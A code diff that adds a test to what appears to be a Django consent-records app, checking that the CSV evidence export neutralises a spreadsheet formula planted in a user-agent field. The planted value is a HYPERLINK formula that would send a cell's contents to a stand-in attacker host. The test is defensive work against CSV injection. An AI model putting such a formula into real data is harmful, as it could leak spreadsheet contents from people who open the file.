@@ -43,6 +43,21 @@ def test_evidence_downloads_as_csv_and_json(admin_client, purposes, subject):
     assert AuditEvent.objects.filter(action="consent.evidence.downloaded").count() == 2
 
 
+def test_evidence_csv_shows_a_planted_formula_as_text(admin_client, purposes, subject):
+    planted = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    consent_grant(
+        actor=SYSTEM,
+        subject=subject,
+        purpose="newsletter",
+        source="form",
+        user_agent=planted,
+    )
+    url = f"/admin/consent_app/consentevent/evidence/{subject.pk}.csv"
+    body = b"".join(admin_client.get(url).streaming_content).decode()
+    (row,) = csv.DictReader(io.StringIO(body))
+    assert row["user_agent"] == "'" + planted
+
+
 def test_ledger_changelist_links_the_evidence(admin_client, purposes, subject):
     _history(subject)
     page = admin_client.get(
